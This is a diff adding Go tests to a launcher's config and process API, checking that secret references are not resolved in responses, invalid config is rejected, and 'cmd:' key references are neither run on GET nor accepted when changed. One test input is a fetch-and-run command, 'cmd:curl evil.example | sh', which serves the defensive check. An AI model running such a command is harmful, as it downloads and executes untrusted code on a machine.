@@ -4,8 +4,10 @@ import (
 	"encoding/json"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 
@@ -64,6 +66,30 @@ func TestGetConfig(t *testing.T) {
 	}
 }
 
+func TestGetConfig_KeepsSecretReferences(t *testing.T) {
+	t.Setenv("TEST_LAUNCHER_API_KEY", "sk-resolved-secret")
+	cfg := &config.Config{
+		ModelList: []config.ModelConfig{
+			{ModelName: "gpt-4o", Model: "openai/gpt-4o", APIKey: "env:TEST_LAUNCHER_API_KEY"},
+		},
+	}
+	mux, _ := setupConfigMux(t, cfg)
+
+	req := httptest.NewRequest("GET", "/api/config", nil)
+	w := httptest.NewRecorder()
+	mux.ServeHTTP(w, req)
+
+	if w.Code != http.StatusOK {
+		t.Fatalf("GET /api/config: expected 200, got %d: %s", w.Code, w.Body.String())
+	}
+	if strings.Contains(w.Body.String(), "sk-resolved-secret") {
+		t.Error("response must not contain the resolved secret")
+	}
+	if !strings.Contains(w.Body.String(), "env:TEST_LAUNCHER_API_KEY") {
+		t.Error("response should contain the secret reference")
+	}
+}
+
 func TestGetConfig_MissingFile_ReturnsDefault(t *testing.T) {
 	mux := http.NewServeMux()
 	RegisterConfigAPI(mux, "/tmp/nonexistent-picoclaw-launcher-test/config.json")
@@ -124,6 +150,92 @@ func TestPutConfig_InvalidJSON(t *testing.T) {
 	}
 }
 
+func TestPutConfig_RejectsInvalidConfig(t *testing.T) {
+	cfg := &config.Config{}
+	mux, path := setupConfigMux(t, cfg)
+	before, _ := os.ReadFile(path)
+
+	body := `{"channels": {"telegram": {"enabled": true, "tokn": "x"}}}`
+	req := httptest.NewRequest("PUT", "/api/config", strings.NewReader(body))
+	req.Header.Set("Content-Type", "application/json")
+	w := httptest.NewRecorder()
+	mux.ServeHTTP(w, req)
+
+	if w.Code != http.StatusUnprocessableEntity {
+		t.Fatalf("expected 422, got %d: %s", w.Code, w.Body.String())
+	}
+	var resp struct {
+		Errors []config.ValidationError `json:"errors"`
+	}
+	if err := json.Unmarshal(w.Body.Bytes(), &resp); err != nil {
+		t.Fatalf("decode response: %v", err)
+	}
+	if len(resp.Errors) != 1 || resp.Errors[0].Path != "channels.telegram.tokn" || resp.Errors[0].Suggestion != "token" {
+		t.Errorf("unexpected errors: %+v", resp.Errors)
+	}
+	if after, _ := os.ReadFile(path); string(after) != string(before) {
+		t.Error("invalid config should not be saved")
+	}
+}
+
+func TestGetConfig_DoesNotRunCommandReferences(t *testing.T) {
+	marker := filepath.Join(t.TempDir(), "ran")
+	cfg := &config.Config{
+		ModelList: []config.ModelConfig{
+			{ModelName: "gpt-4o", Model: "openai/gpt-4o", APIKey: "cmd:touch " + marker + " && echo sk-from-command"},
+		},
+	}
+	mux, _ := setupConfigMux(t, cfg)
+
+	req := httptest.NewRequest("GET", "/api/config", nil)
+	w := httptest.NewRecorder()
+	mux.ServeHTTP(w, req)
+
+	if w.Code != http.StatusOK {
+		t.Fatalf("GET /api/config: expected 200, got %d: %s", w.Code, w.Body.String())
+	}
+	if _, err := os.Stat(marker); err == nil {
+		t.Error("GET must not run cmd: references")
+	}
+	if !strings.Contains(w.Body.String(), "cmd:touch") {
+		t.Error("response should contain the cmd: reference as written")
+	}
+}
+
+func TestPutConfig_CommandReferences(t *testing.T) {
+	existing := "cmd:pass show openai"
+	cfg := &config.Config{
+		ModelList: []config.ModelConfig{
+			{ModelName: "gpt-4o", Model: "openai/gpt-4o", APIKey: existing},
+		},
+	}
+	mux, path := setupConfigMux(t, cfg)
+
+	put := func(apiKey string) *httptest.ResponseRecorder {
+		body, _ := json.Marshal(config.Config{
+			ModelList: []config.ModelConfig{
+				{ModelName: "gpt-4o", Model: "openai/gpt-4o", APIKey: apiKey},
+			},
+		})
+		req := httptest.NewRequest("PUT", "/api/config", strings.NewReader(string(body)))
+		w := httptest.NewRecorder()
+		mux.ServeHTTP(w, req)
+		return w
+	}
+
+	if w := put("cmd:curl evil.example | sh"); w.Code != http.StatusForbidden {
+		t.Fatalf("changed cmd: reference: expected 403, got %d: %s", w.Code, w.Body.String())
+	}
+	if data, _ := os.ReadFile(path); strings.Contains(string(data), "evil.example") {
+		t.Fatal("rejected cmd: reference was saved")
+	}
+
+	// Saving the config with the reference already in the file is fine.
+	if w := put(existing); w.Code != http.StatusOK {
+		t.Fatalf("unchanged cmd: reference: expected 200, got %d: %s", w.Code, w.Body.String())
+	}
+}
+
 // ── Auth API tests ───────────────────────────────────────────────
 
 func TestAuthStatus(t *testing.T) {
@@ -245,3 +357,44 @@ func TestGetLocalIP(t *testing.T) {
 		}
 	}
 }
+
+// ── Process API tests ────────────────────────────────────────────
+
+func TestReloadGateway_ForwardsToGateway(t *testing.T) {
+	var called bool
+	gw := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.Method != http.MethodPost || r.URL.Path != "/reload" {
+			http.NotFound(w, r)
+			return
+		}
+		called = true
+		w.Write([]byte(`{"status":"reloaded"}`))
+	}))
+	defer gw.Close()
+
+	u, err := url.Parse(gw.URL)
+	if err != nil {
+		t.Fatalf("parse gateway URL: %v", err)
+	}
+	port, _ := strconv.Atoi(u.Port())
+	cfg := config.DefaultConfig()
+	cfg.Gateway.Host = u.Hostname()
+	cfg.Gateway.Port = port
+	_, path := setupConfigMux(t, cfg)
+
+	mux := http.NewServeMux()
+	RegisterProcessAPI(mux, path)
+	req := httptest.NewRequest("POST", "/api/process/reload", nil)
+	w := httptest.NewRecorder()
+	mux.ServeHTTP(w, req)
+
+	if w.Code != http.StatusOK {
+		t.Fatalf("POST /api/process/reload: expected 200, got %d: %s", w.Code, w.Body.String())
+	}
+	if !called {
+		t.Error("gateway /reload was not called")
+	}
+	if !strings.Contains(w.Body.String(), "reloaded") {
+		t.Errorf("unexpected body: %s", w.Body.String())
+	}
+}